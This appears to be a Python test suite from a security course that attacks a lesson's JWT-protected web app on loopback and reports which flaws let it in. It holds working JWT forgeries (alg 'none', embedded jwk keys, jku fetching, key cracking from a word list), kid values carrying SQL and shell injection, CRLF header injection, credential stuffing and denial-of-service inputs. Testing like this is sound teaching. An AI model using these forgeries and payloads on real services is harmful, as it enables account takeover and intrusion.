"""Attacks on lesson 04: JSON Web Tokens.

A forged token goes both ways that a lesson may read it: in the header and in the address.
"""

import base64
import hashlib
import hmac
import itertools
import json
import socket
import sqlite3
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing

import jwt
from attack import USER1, USER2, is_in, is_naive, log_of, token
from on_hashing import differ, ratio
from passlib.hash import argon2
from wire import NoAnswer, ask, request

from learn.practice.expect import seconds_of

WORDS = ["secret", "password", "jwt", "key", "changeme", "dev", "eduCBA", "test", "flask", "admin"]


def b64(value) -> str:
    """Return base64url without padding, of bytes or of something as JSON."""
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims_of(good) -> dict:
    """Read a token's claims, as anybody can."""
    part = good.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def signed(header, claims, key=b"", hash_name="sha256") -> str:
    """Return a token with any header, signed by HMAC with this key."""
    data = f"{b64(header)}.{b64(claims)}"
    return f"{data}.{b64(hmac.digest(key, data.encode(), hash_name))}"


def key_of(target) -> bytes:
    """Return the lesson's key: for one who has it, or who issues tokens with the same one."""
    return b"eduCBA" if is_naive(target) else target.settings["SECRET_KEY"].encode()


def shown(target, forged):
    """Show the token in the header and in the address; tell whether either let it in."""
    line = b"Authorization: Bearer " + forged.encode()
    try:
        if is_in(ask(target.port, request(b"GET", b"/secured", line))):
            return True
        path = b"/secured?token=" + forged.replace(" ", "%20").encode()
        return is_naive(target) and is_in(ask(target.port, request(b"GET", path)))
    except NoAnswer:
        return False


def any_shown(target, tokens):
    """Return the first of these that got in, with its header readable, or None."""
    for forged in tokens:
        if shown(target, forged):
            part = forged.split(".")[0]
            return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)).decode(errors="replace")


def alg_none(target):
    """Say in the header that there is no signature: none in all sixteen spellings, and others."""
    good = token(target)
    claims = {**claims_of(good), "scope": "admin", "user": "admin"}
    spellings = ["".join(one) for one in itertools.product("nN", "oO", "nN", "eE")]
    spellings += [" none", "none ", "none\0", "", None, False, 0, [], ["none"], {}, "null", "plain"]
    headers = [{"alg": alg, "typ": "JWT"} for alg in spellings] + [{}, {"typ": "JWT"}]
    tokens = [f"{b64(header)}.{b64(claims)}." for header in headers]
    ends = [good.rpartition(".")[2], "AA"]
    return any_shown(target, [*tokens, *(tokens[0] + end for end in ends)])


def no_signature(target):
    """Leave the signature out, or send the beginning of it, or zeros."""
    head, body, end = token(target).split(".")
    changed = b64({**claims_of(f".{body}."), "sub": "user2", "user": "x"})
    ends = ["", end[:-1], end[:20], "A" * 43, "=", "."]
    return any_shown(target, [f"{head}.{changed}.{x}" for x in [*ends, end]] + [f"{head}.{body}."])


def other_hash(target):
    """Sign with the right key by another HMAC than the one that this server chose."""
    claims, key = claims_of(token(target)), key_of(target)
    names = [("HS384", "sha384"), ("HS512", "sha512"), ("HS1", "sha1"), ("hs256", "sha256")]
    return any_shown(target, [signed({"alg": alg}, claims, key, name) for alg, name in names])


def own_key_in_the_header(target):
    """Sign with a key of one's own, by RSA or a curve or HMAC, and put that key into the header."""
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

    claims, tokens = claims_of(token(target)), []
    keys = [("RS256", rsa.generate_private_key(65537, 2048)), ("PS256", None)]
    keys[1] = ("PS256", keys[0][1])
    keys += [("ES256", ec.generate_private_key(ec.SECP256R1()))]
    keys += [("EdDSA", ed25519.Ed25519PrivateKey.generate())]
    for alg, key in keys:
        kind = jwt.get_algorithm_by_name(alg)
        own = json.loads(kind.to_jwk(key.public_key()))
        tokens.append(jwt.encode(claims, key, alg, {"jwk": own, "kid": "mine"}))
    own = {"kty": "oct", "k": b64(b"k" * 32), "alg": "HS256"}
    tokens.append(signed({"alg": "HS256", "jwk": own}, claims, b"k" * 32))
    return any_shown(target, tokens)


def public_key_as_secret(target):
    """Sign by HMAC with what is public: a name, the realm, nothing, the PEM text of a key."""
    claims = claims_of(token(target))
    pem = b"-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYI\n-----END PUBLIC KEY-----\n"
    known = [b"", b"\0", b"null", b"None", b"Lesson 04", b"undefined", pem, pem.strip()]
    algs = ["HS256", "RS256", "ES256"]
    return any_shown(target, [signed({"alg": a}, claims, key) for key in known for a in algs])


def kid_names_a_file(target):
    """Let kid name a file whose content is known, or be SQL that returns a known key."""
    claims, tokens = claims_of(token(target)), []
    readme = target.path.with_name("README.md")
    known = readme.read_bytes() if readme.exists() else target.path.read_bytes()
    tokens = [signed({"alg": "HS256", "kid": n}, claims, known) for n in (readme.name, str(readme))]
    tokens += [signed({"alg": "HS256", "kid": target.path.name}, claims, target.path.read_bytes())]
    paths = ["/dev/null", "../../../../../../../dev/null", "nul"]
    tokens += [signed({"alg": "HS256", "kid": path}, claims, b"") for path in paths]
    for kid in ("x' UNION SELECT 'mine' --", "mine' --", "|echo mine", ["mine"], 0):
        tokens.append(signed({"alg": "HS256", "kid": kid}, claims, b"mine"))
    return any_shown(target, tokens)


def key_from_an_address(target):
    """Let jku and x5u name an address where one's own key waits: does the server fetch it?"""
    own = {"keys": [{"kty": "oct", "kid": "mine", "alg": "HS256", "k": b64(b"k" * 32)}]}
    with closing(_Listener(json.dumps(own).encode())) as listener:
        claims = claims_of(token(target))
        address = f"http://127.0.0.1:{listener.port}/keys"
        tokens = [
            signed({"alg": "HS256", "kid": "mine", name: address}, claims, b"k" * 32)
            for name in ("jku", "x5u", "jwk", "iss")
        ]
        tokens.append(signed({"alg": "HS256", "kid": address}, claims, b"k" * 32))
        found = any_shown(target, tokens)
        return found or ("the server fetched the address" if listener.asked else None)


class _Listener:
    """A web server on loopback that answers everything with one document, and counts."""

    def __init__(self, document):
        self.document, self.asked = document, 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.asked += 1
            with connection:
                connection.recv(65536)
                head = b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(self.document)
                connection.sendall(head + self.document)

    def close(self):
        self._listener.close()


def crit(target):
    """With a right signature, demand an extension that nobody knows: it must be refused."""
    claims, key = claims_of(token(target)), key_of(target)
    extras = [
        {"crit": ["exp"], "exp": 1},
        {"crit": ["urn:x"], "urn:x": True},
        {"crit": ["b64"], "b64": False},
        {"crit": []},
        {"crit": ["absent"]},
        {"crit": "alg"},
        {"crit": None},
    ]
    return any_shown(target, [signed({"alg": "HS256", **more}, claims, key) for more in extras])


def fresh(target, **changes):
    """Return a good token's claims, changed; None takes one out."""
    claims = {**claims_of(token(target)), **changes}
    return {name: value for name, value in claims.items() if value is not None}


def by_the_key(target, *all_changes):
    """Sign each with the right key; return the claims of the first that got in, or None."""
    for changes in all_changes:
        changed = fresh(target, **changes)
        if shown(target, signed({"alg": "HS256", "typ": "JWT"}, changed, key_of(target))):
            return str(changes)


def claims_missing(target):
    """Leave out each claim in turn: who issued it, for whom, until when, its name."""
    return by_the_key(target, *({n: None} for n in ("exp", "iat", "iss", "aud", "sub", "jti")))


def claims_of_wrong_type(target):
    """Give each claim a value of another type than it has."""
    odd = [True, [], {}, "", "x", 1.5, -1, ["Lesson 04"], {"$gt": ""}, "9" * 400]
    changes = [{name: value} for name in ("iss", "aud", "sub", "jti") for value in odd]
    changes += [{"exp": value} for value in (True, "x", [], {}, "9999999999", 1.5, -1)]
    changes += [{"iat": value} for value in (True, "x", [], {}, "0", 1.5, -(10**30))]
    changes = [c for c in changes if not isinstance(c.get("jti"), str)]  # any text is a name
    return by_the_key(target, *changes)


def far_in_the_future(target):
    """Let a token end in a thousand years, or begin in the future."""
    now = int(time.time())
    far = [now + 10**6, 253402300799, 2**63, 2**64, 10**40, 1e308]
    changes = [{"exp": value} for value in far]
    changes += [{"iat": now + 3600, "exp": now + 3700}, {"nbf": now + 3600}]
    return by_the_key(target, *changes)


def expired(target):
    """Use a token after its end."""
    now = int(time.time())
    old = {"iat": now - 200, "exp": now - 20}
    return by_the_key(target, old, {"exp": 0}, {"exp": now - 1, "iat": now - 100})


def of_another_lesson(target):
    """Use a token that another service issued, or that is meant for another, by the same key."""
    return by_the_key(
        target,
        {"iss": "Lesson 05"},
        {"aud": "Lesson 05"},
        {"iss": "Lesson 05", "aud": "Lesson 05"},
        {"aud": ["Lesson 04", "Lesson 05"]},
        {"iss": "lesson 04"},
        {"aud": "Lesson 04 "},
    )


def of_another_key(target):
    """Sign with keys that are nearly the right one."""
    key, claims = key_of(target), claims_of(token(target))
    keys = [
        b"x" * 32,
        key[:-1],
        key + b"0",
        key.swapcase() + b"!",
        key[::-1],
        hashlib.sha256(key).digest(),
    ]
    return any_shown(target, [signed({"alg": "HS256"}, claims, one) for one in keys])


def key_from_a_list(target):
    """Log in as anybody may, and try a word list on the token's signature, at home."""
    good = token(target, USER2)
    data, _, end = good.rpartition(".")
    words = [word + tail for word in WORDS for tail in ("", "1", "123", "!")]
    for count, word in enumerate(words, 1):
        if b64(hmac.digest(word.encode(), data.encode(), "sha256")) == end:
            forged = signed(
                {"alg": "HS256"}, fresh(target, sub="user1", user="user1"), word.encode()
            )
            return f"{word!r}, after {count} guesses" if shown(target, forged) else None


def claims_edited(target):
    """Write user1, or the admin's scope, into one's own token and keep its signature."""
    head, body, end = token(target, USER2).split(".")
    changes = [{"sub": "user1"}, {"scope": "admin"}, {"user": "user1"}, {"exp": 2**40}]
    edited = [f"{head}.{b64({**claims_of(f'.{body}.'), **c})}.{end}" for c in changes]
    return any_shown(target, edited)


def scope_of_another(target):
    """Ask for the admin's page with user2's token."""
    good = token(target, USER2)
    return "in" if target.get("/admin", bearer=good).status == 200 else None


def scope_nearly(target):
    """With the right key, bring a scope that is nearly the admin's: that is no admin."""
    for scope in ("Admin", "admin ", "administrator", ["admin"], {"admin": 1}, True, "", None):
        forged = signed({"alg": "HS256"}, fresh(target, scope=scope, sub="user2"), key_of(target))
        if target.get("/admin", bearer=forged).status == 200:
            return repr(scope)


def anybodys_token(target):
    """Log in under a name that nobody has, with what is no password of anybody."""
    for pair in [("admin", "secret"), ("nobody", "secret"), ("", "secret"), ("user1", "secret")]:
        for method in ("GET", "POST"):
            answer = target.send(method, "/login", basic=pair)
            if answer.status == 200:
                return f"{pair} got a token"


def database(target):
    """Open the lesson's database, as its administrator can; each statement counts at once."""
    return closing(sqlite3.connect(target.settings["DATABASE"], isolation_level=None))


def hash_of(password, rounds):
    return argon2.using(type="ID", memory_cost=19456, rounds=rounds, parallelism=1).hash(password)


def right_that_ends_meanwhile(target):
    """Log in while the user is removed, or their password changed: their hash takes long."""
    with database(target) as db, ThreadPoolExecutor(2) as pool:
        rows = db.execute("SELECT * FROM users").fetchall()
        db.execute("UPDATE users SET hash = ?", [hash_of("slow", rounds=40)])
        pairs = [("user1", "slow"), ("user2", "slow")]
        logins = [pool.submit(target.post, "/login", basic=pair) for pair in pairs]
        time.sleep(0.25)
        another = hash_of("another", rounds=2)
        db.execute("UPDATE users SET hash = ? WHERE name = 'user1'", [another])
        db.execute("DELETE FROM users WHERE name = 'user2'")
        won = [login.result().status == 200 for login in logins]
        db.execute("DELETE FROM users")
        db.executemany("INSERT INTO users VALUES (?, ?, ?)", rows)
    return f"a token: changed {won[0]}, removed {won[1]}" if any(won) else None


def marks_without_end(target):
    """Log in with 45 kB of combining marks as the password, which take long to put in order."""
    marks, letters = "\u0301\u0327" * 11_000, "x" * 44_000
    slow, quick = seconds_of(
        lambda: target.post("/login", basic=("user1", marks)),
        lambda: target.post("/login", basic=("user1", letters)),
        rounds=1,
    )
    return f"{slow / quick:.0f} times the work" if slow > 10 * quick else None


def user_who_is_gone(target):
    """Use the token of a user who does not exist, or no longer."""
    if is_naive(target):
        forged = signed({"alg": "HS256"}, fresh(target, user="long gone"), key_of(target))
        return "it still opens" if shown(target, forged) else None
    good = token(target, USER2)
    with database(target) as db:
        row = db.execute("SELECT * FROM users WHERE name = 'user2'").fetchone()
        db.execute("DELETE FROM users WHERE name = 'user2'")
        won = shown(target, good)
        db.execute("INSERT INTO users VALUES (?, ?, ?)", row)
    return "it still opens" if won else None


def after_logout(target):
    """Use a token after its owner has logged out."""
    good = token(target)
    target.post("/logout", bearer=good)
    return "it still opens" if shown(target, good) else None


def after_logout_in_another_spelling(target):
    """Use a token after logout with other bits in its last letter, and with what base64 skips."""
    good = token(target)
    target.post("/logout", bearer=good)
    head, body, end = good.split(".")
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    near = letters.index(end[-1])
    twins = [end[:-1] + letters[near ^ bit] for bit in (1, 2, 3)]
    twins += [end + "=", end + "==", end + "*", end[:5] + " " + end[5:], end[:5] + "!" + end[5:]]
    return any_shown(target, [f"{head}.{body}.{twin}" for twin in twins])


def token_in_the_address(target):
    """Log in, use the token, and look for it in the server's log."""
    good = token(target)
    if is_naive(target):
        target.get(f"/secured?token={good}")
    else:
        target.get("/secured", bearer=good)
    signature = good.rpartition(".")[2]
    return "the whole token stands in the log" if signature in log_of(target) else None


def in_other_places(target):
    """Send a good token where none belongs: a form, a cookie, another scheme, the address."""
    good = token(target)
    path, body = b"/secured", b"access_token=" + good.encode()
    kind = b"Content-Type: application/x-www-form-urlencoded"
    tries = [request(b"GET", path, kind, body=body), request(b"GET", path + b"?" + body)]
    tries += [request(b"GET", path + b"?token=" + good.encode())]
    tries += [
        request(b"GET", path, b"Cookie: " + body),
        request(b"GET", path, b"X-Token: " + good.encode()),
    ]
    for scheme in (b"Basic", b"Token", b"JWT", b"Digest", b""):
        tries.append(request(b"GET", path, b"Authorization: " + scheme + b" " + good.encode()))
    won = [data for data in tries if is_in(ask(target.port, data))]
    return f"taken from {won[0][:40]!r}" if won else None


def basic_for_bearer(target):
    """Ask for the page with the password instead of a token, and log in with a token."""
    good = token(target)
    if is_in(target.get("/secured", basic=USER1)):
        return "the page takes the password"
    answer = target.post("/login", bearer=good)
    return "a token got a new token" if answer.status == 200 else None


def nested(target):
    """Send JSON that is nested a thousand deep, huge numbers, broken UTF-8, a name twice."""
    deep = b'{"alg":"HS256","x":' + b"[" * 2000 + b"]" * 2000 + b"}"
    heads = [
        deep,
        b'{"alg":"HS256","alg":"none"}',
        b"\xff\xfe",
        b"null",
        b"[]",
        b'"HS256"',
        b"1e999",
    ]
    heads += [b'{"alg":' + b"9" * 5000 + b"}", b'{"alg":"HS256"}\0', b'{"alg":NaN}']
    bodies = [b"{}", deep, b"\xff", b"null", b'{"exp":NaN}', b'{"exp":1e999}', b'{"sub":"\\ud800"}']
    bodies.append(json.dumps({**claims_of(token(target)), "sub": "\ud800"}).encode())
    for head, body in itertools.product([b'{"alg":"HS256"}', *heads], bodies):
        data = f"{b64(head)}.{b64(body)}"
        forged = f"{data}.{b64(hmac.digest(key_of(target), data.encode(), 'sha256'))}"
        line = b"Authorization: Bearer " + forged.encode()
        try:
            answer = ask(target.port, request(b"GET", b"/secured", line))
        except NoAnswer:
            return f"no answer to {head[:30]!r}, {body[:30]!r}"
        if answer.status >= 500 or is_in(answer):
            return f"{answer.status} for {head[:30]!r}, {body[:30]!r}"


def enumeration_by_answer(target):
    """Compare all that /login answers to a wrong password and to an unknown user."""
    return differ(
        target.post("/login", basic=("user1", "wrong")),
        target.post("/login", basic=("nobody", "wrong")),
    )


def enumeration_by_time(target):
    """Measure a wrong password against an unknown user, in turn."""
    return ratio(
        lambda: target.post("/login", basic=("user1", "wrong")),
        lambda: target.post("/login", basic=("nobody", "wrong")),
    )


def comparison_by_time(target):
    """Measure signatures that are right but for their end against those that are wrong at once."""
    good = token(target)
    head, body, end = good.split(".")
    nearly = f"{head}.{body}.{end[:-4]}{'AAAA' if end[-4:] != 'AAAA' else 'BBBB'}"
    wrong = f"{head}.{body}.{'A' if end[0] != 'A' else 'B'}{end[1:]}"
    return ratio(lambda: shown(target, nearly), lambda: shown(target, wrong))


def words_in_the_error(target):
    """Put quotes and line ends into a token's header, for error_description to repeat them."""
    key = key_of(target)
    for word in ('x", error="none', "x\r\nSet-Cookie: a=b", "\\", "x\ny"):
        for header in (
            {"alg": word},
            {"alg": "HS256", "crit": [word]},
            {"alg": "HS256", "kid": [word]},
        ):
            forged = signed(header, {"iss": word, "aud": word, "exp": word}, key)
            line = b"Authorization: Bearer " + forged.encode()
            answer = ask(target.port, request(b"GET", b"/secured", line))
            told = answer.header(b"www-authenticate")
            if answer.header(b"set-cookie") or told.count(b'error="') > 1 or answer.status >= 500:
                return f"{answer.status} {told!r}"


def stolen(target):
    """Use a token that somebody else has copied, before its owner logs out."""
    good = token(target)
    return "who has the token is its user" if shown(target, good) else None


def scope_of_yesterday(target):
    """Take the admin's rights from user1 and ask for the admin's page with the older token."""
    good = token(target)
    with database(target) as db:
        db.execute("UPDATE users SET admin = 0 WHERE name = 'user1'")
        won = target.get("/admin", bearer=good).status == 200
        db.execute("UPDATE users SET admin = 1 WHERE name = 'user1'")
    return "the older token still says admin" if won else None


def stuffing(target):
    """Try a list of pairs that leaked elsewhere, the right one being the last of thirty."""
    pairs = [("user1", f"leaked{n}") for n in range(29)] + [USER1]
    for count, pair in enumerate(pairs, 1):
        if target.post("/login", basic=pair).status == 200:
            return f"guess {count} was right, and the 28 before had stopped nobody"


def refresh(target, refresh_token):
    """Return the answer to a refresh token."""
    return target.post("/refresh", form={"refresh_token": refresh_token})


def refresh_by_a_thief(target):
    """Use a stolen refresh token first; then its owner uses it. Is the thief still in?"""
    stolen = target.post("/login", basic=USER2).json()["refresh_token"]
    pair = refresh(target, stolen).json()
    refresh(target, stolen)  # the owner, who is refused
    if shown(target, pair["access_token"]):
        return "the thief's token still opens"
    return "the thief goes on" if refresh(target, pair["refresh_token"]).status == 200 else None


def refresh_after_another_password(target):
    """Use the tokens of a login after the password was changed, or the user removed and added."""
    with database(target) as db:
        for remove in (False, True):
            pair = target.post("/login", basic=USER2).json()
            if remove:
                db.execute("DELETE FROM users WHERE name = 'user2'")
                db.execute("INSERT INTO users VALUES ('user2', '', 0)")
            hashed = hash_of("pass2", rounds=2)
            db.execute("UPDATE users SET hash = ? WHERE name = 'user2'", [hashed])
            if refresh(target, pair["refresh_token"]).status == 200:
                return "a new pair of tokens"
            if shown(target, pair["access_token"]):
                return "the access token still opens"


def after_logout_everywhere(target):
    """Use a token, and its refresh token, after the user has ended all logins from elsewhere."""
    pair = target.post("/login", basic=USER2).json()
    target.post("/logout/everywhere", bearer=token(target, USER2))
    won = shown(target, pair["access_token"])
    return "in" if won or refresh(target, pair["refresh_token"]).status == 200 else None


def logout_of_another(target):
    """End somebody's login with what their access token shows to everybody who sees it."""
    pair = target.post("/login", basic=USER2).json()
    name = claims_of(pair["access_token"])["jti"].partition(".")[0]
    refresh(target, f"{name}.x")
    return None if refresh(target, pair["refresh_token"]).status == 200 else "logged out"


def upload(target):
    """Send 300 kB where a refresh token belongs, as a file, which a server may keep on its disk."""
    head = b'--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n'
    body = head + b"x" * 300_000 + b"\r\n--x--\r\n"
    kind = b"Content-Type: multipart/form-data; boundary=x"
    with socket.create_connection(("127.0.0.1", target.port), timeout=10) as connection:
        connection.sendall(request(b"POST", b"/refresh", kind, body=body))
        status = int(connection.recv(65536)[9:12])
    return f"all of it was read, and answered with {status}" if status != 413 else None


def many_rows(target):
    """Let a quarter of a million logins be noted, and measure a refresh token that is made up."""

    def made_up():
        refresh(target, "made.up")

    with database(target) as db:
        (few,) = seconds_of(made_up)
        rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 250000)"
        add = "INSERT INTO logins SELECT 'row' || i, 'other' || i, '', '', 4102444800 FROM n"
        db.execute(f"{rows} {add}")
        (many,) = seconds_of(made_up, until=lambda many: many <= 3 * few)
        db.execute("DELETE FROM logins WHERE id LIKE 'row%'")
    return f"{many / few:.1f} times as long" if many > 3 * few else None


def key_for(target, user=USER2, **form):
    """Make an API key with a token of this user; return the answer's JSON."""
    form = {"name": "a program", **form}
    return target.post("/keys", bearer=token(target, user), form=form).json()


def key_opens(target, key):
    """Tell whether an API key opens the report."""
    return target.get("/report", authorization=f"ApiKey {key}").status == 200


def key_of_one_who_is_gone(target):
    """Use a key after its owner was removed, and after another user got the name."""
    key = key_for(target)["key"]
    with database(target) as db:
        row = db.execute("SELECT * FROM users WHERE name = 'user2'").fetchone()
        db.execute("DELETE FROM users WHERE name = 'user2'")
        won = key_opens(target, key)
        db.execute("INSERT INTO users VALUES (?, ?, ?)", row)
    return "it still opens" if won or key_opens(target, key) else None


def key_of_another(target):
    """Revoke another user's key by its id."""
    made = key_for(target)
    target.send("DELETE", f"/keys/{made['id']}", bearer=token(target, USER1))
    return None if key_opens(target, made["key"]) else "it is gone"


def key_beyond_its_scope(target):
    """Write with a key that may only read."""
    key = key_for(target, scope="read")["key"]
    answer = target.post("/report", authorization=f"ApiKey {key}")
    return "it writes" if answer.status == 204 else None


def key_by_a_token_logged_out(target):
    """Begin to ask for a key with a stolen token, and end after its owner has logged out."""
    good = token(target, USER2)
    body = b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--x--\r\n'
    lines = (
        b"Authorization: Bearer " + good.encode(),
        b"Content-Type: multipart/form-data; boundary=x",
    )
    data = request(b"POST", b"/keys", *lines, body=body)
    with socket.create_connection(("127.0.0.1", target.port), timeout=10) as connection:
        connection.sendall(data[:-20])
        time.sleep(0.3)
        target.post("/logout", bearer=good)
        connection.sendall(data[-20:])
        status = int(connection.recv(65536)[9:12])
    return "a key that outlives the token" if status == 201 else None


def keys_without_end(target):
    """Make sixty keys, eight at a time: a program in a loop, or somebody who fills the disk."""
    good = token(target, USER1)
    with ThreadPoolExecutor(8) as pool:
        made = pool.map(
            lambda n: target.post("/keys", bearer=good, form={"name": f"{n}"}).status, range(60)
        )
        count = list(made).count(201)
    return f"{count} keys" if count > 20 else None


def key_in_the_database(target):
    """Read the database and its log, as a thief of a backup can, and look for a key."""
    key = key_for(target)["key"].encode()
    path = target.settings["DATABASE"]
    for end in ("", "-wal"):
        with open(path + end, "rb") as file:
            if key in file.read():
                return "it stands there"
